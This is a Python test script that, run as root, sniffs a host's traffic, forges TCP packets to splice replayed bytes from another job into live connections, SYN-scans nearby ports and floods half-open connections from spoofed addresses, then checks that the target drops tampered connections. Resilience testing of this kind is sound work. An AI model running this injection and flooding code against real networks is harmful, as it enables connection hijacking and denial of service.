# SPDX-License-Identifier: BSD-3-Clause
"""wiretap.py interface folder seconds: attack the ranks of a host from its network.

Run as root where the host's packets pass.  Record what other hosts say to it, and write folder/tapped when that has
begun.  Once folder/ports has the ports of a job's ranks, write folder/recorded: what a process of another job has said
over a connection.  Then, for so many seconds, splice bytes of that between the records of the job's connections, scan
the host's ports by SYN, and ask for connections from addresses that nobody has, which stay half open.  Fail unless each
connection ends that has taken a splice, and there is one.
"""
import os
import random
import select
import socket
import struct
import sys
import time

sys.dont_write_bytecode = True
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)) + "/../support")
from patience import Patience  # noqa: E402

MAGIC = struct.pack("<I", 0x33504403)
GREETINGS, HEAD, FRAME = 128, 24, 1  # bytes that a caller says before its first record; head of one; its kind
SYN, FIN_RST, PSH_ACK, OUTGOING = 2, 5, 24, 4
SPLICE, HALF_OPEN, SHORT_HALF_OPEN, SHORT_S = 500, 2000, 200, 10  # bytes; connections in a second
HEALED_S, AGAIN_S = 1.5, 1  # age of a connection that is spliced: the last splice is forgotten; time between two
UNUSED_S = 5  # silence of a connection that is in use, at most, and more
SCANNER, NOBODY = "10.213.77.200", "10.213.77.%d"


def checksum(data):
    words = struct.unpack(f">{(len(data) + 1) // 2}H", data + bytes(len(data) % 2))
    total = sum(words)
    total = (total >> 16) + (total & 0xffff)
    return ~((total >> 16) + total) & 0xffff


class Packet:
    """A packet of TCP over IPv4 without options of IP."""

    def __init__(self, raw):
        at = 34 + (raw[46] >> 4) * 4
        self.head, self.data = raw[:at], raw[at:14 + struct.unpack_from(">H", raw, 16)[0]]
        self.ends = raw[26:30] + raw[34:36], raw[30:34] + raw[36:38]  # address and port of both
        self.port = struct.unpack_from(">H", raw, 36)[0]
        self.seq, self.ack = struct.unpack_from(">II", raw, 38)
        self.flags = raw[47]

    def forge(self, seq, flags, data=b"", source=None, port=None):
        """Return this packet with other words, from another address if there is one."""
        h = bytearray(self.head)
        struct.pack_into(">H", h, 16, len(h) - 14 + len(data))
        if source:
            h[26:30] = socket.inet_aton(source)
            struct.pack_into(">HH", h, 34, random.randrange(1024, 65536), port)
        struct.pack_into(">I", h, 38, seq)
        h[47] = flags
        h[24:26] = h[50:52] = bytes(2)
        struct.pack_into(">H", h, 24, checksum(h[14:34]))
        struct.pack_into(">H", h, 50, checksum(h[26:34] + struct.pack(">HH", 6, len(h) - 34 + len(data)) + h[34:] + data))
        return bytes(h) + data


class Stream:
    """What a caller says over a connection: greetings, and then records."""

    def __init__(self, syn):
        self.last, self.port, self.next, self.said = syn, syn.port, (syn.seq + 1) % 2**32, b""
        self.left, self.head = GREETINGS, b""  # of the record that comes: bytes that are missing, or some of its head
        self.splice_at, self.splice, self.taken = time.monotonic() + HEALED_S, None, False
        self.heard_at = time.monotonic()

    def take(self, p):
        """Take the next bytes."""
        if not p.data or p.seq != self.next:
            return
        self.last, self.next = p, (self.next + len(p.data)) % 2**32
        self.heard_at = time.monotonic()
        self.said += p.data[:max(0, 4096 - len(self.said))]
        data = p.data
        while data:
            n = min(self.left or HEAD - len(self.head), len(data))
            if self.left:
                self.left -= n
            else:
                self.head += data[:n]
            data = data[n:]
            if len(self.head) == HEAD:
                is_ = struct.unpack_from("<Q", self.head, 16)[0]
                self.left = (is_ & 0xffffffff) - (HEAD if is_ >> 32 == FRAME else 0)
                self.head = b""

    def is_between_records(self):
        return not self.left and not self.head

    def goes_on(self):
        """Return true if the caller uses a connection that has taken a splice.  Its end may be missed in a flood."""
        return self.taken and time.monotonic() < self.heard_at + UNUSED_S


class Tap:
    def __init__(self, interface):
        self.socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
        self.socket.setsockopt(socket.SOL_SOCKET, 33, 64 << 20)  # SO_RCVBUFFORCE
        self.socket.bind((interface, 0))
        self.streams = {}
        self.ports, self.over = [], []  # of the job; streams that have ended: all before the attack, then those spliced

    def look(self):
        """Take all packets that have come."""
        select.select([self.socket], [], [], 0.01)
        try:
            while True:
                self.take(*self.socket.recvfrom(1 << 17, socket.MSG_DONTWAIT))
        except BlockingIOError:
            pass

    def take(self, raw, where):
        if raw[12:15] != b"\x08\0\x45" or raw[23] != socket.IPPROTO_TCP:
            return
        p = Packet(raw)
        if where[2] == OUTGOING:
            if p.flags & SYN:
                self.streams[p.ends] = Stream(p)
            elif p.ends in self.streams:
                self.streams[p.ends].take(p)
        elif p.ends[::-1] in self.streams:
            s = self.streams[p.ends[::-1]]
            s.taken |= s.splice == (s.next, p.ack)  # before the caller has said more
            if p.flags & FIN_RST:
                del self.streams[p.ends[::-1]]
                if s.taken or not self.ports:
                    self.over.append(s)

    def ask(self, syn, source, port):
        self.socket.send(syn.forge(random.getrandbits(32), SYN, source=source, port=port))

    def splice(self, recorded):
        """Splice bytes into all connections that are due, and return their number."""
        now, n = time.monotonic(), 0
        for s in self.streams.values():
            if s.port not in self.ports or now < s.splice_at or not s.is_between_records():
                continue
            what = recorded[random.choice((GREETINGS, random.randrange(GREETINGS, len(recorded)))):][:SPLICE]
            s.splice, s.splice_at = (s.next, (s.next + len(what)) % 2**32), now + AGAIN_S
            self.socket.send(s.last.forge(s.next, PSH_ACK, what))
            n += 1
        return n


def attack(tap, syn, recorded, seconds):
    """Return the numbers of splices, of scanned ports, and of connections that stay half open."""
    end, turn_at, late = time.monotonic() + seconds, 0, Patience()
    spliced = scanned = asked = 0
    while time.monotonic() < end or not tap.over or any(s.goes_on() for s in tap.streams.values()):
        assert time.monotonic() < end or not late.is_over(), f"{spliced} splices, and a connection does not end"
        tap.look()
        if time.monotonic() < end or not tap.over:
            spliced += tap.splice(recorded)
        if time.monotonic() < turn_at or time.monotonic() > end:
            continue
        turn_at = time.monotonic() + 1
        for port in range(max(1, tap.ports[0] - 100), min(65536, tap.ports[0] + 100)):
            tap.ask(syn, SCANNER, port)
            scanned += 1
        for k in range(SHORT_HALF_OPEN if seconds < SHORT_S else HALF_OPEN):
            tap.ask(syn, NOBODY % (201 + k % 50), random.choice(tap.ports))
            asked += 1
    return spliced, scanned, asked


def main():
    folder, seconds = sys.argv[2], float(sys.argv[3])
    tap = Tap(sys.argv[1])
    with open(folder + "/tapped", "w") as f:
        f.write("1\n")
    while not os.path.exists(folder + "/ports"):
        tap.look()
    with open(folder + "/ports") as f:
        ports = [int(port) for port in f.read().split()]
    known = [s for s in [*tap.over, *tap.streams.values()] if s.port not in ports and s.said[:4] == MAGIC]
    other = max(known, key=lambda s: len(s.said))
    assert len(other.said) > GREETINGS + 4 * HEAD, "another job has said little"
    with open(folder + "/recorded.new", "wb") as f:
        f.write(other.said)
    os.rename(folder + "/recorded.new", folder + "/recorded")
    tap.ports, tap.over = ports, []
    spliced, scanned, asked = attack(tap, other.last, other.said, seconds)
    print(f"# tried: {spliced} splices, {len(tap.over)} end a connection; {scanned} ports; {asked} half open")


main()
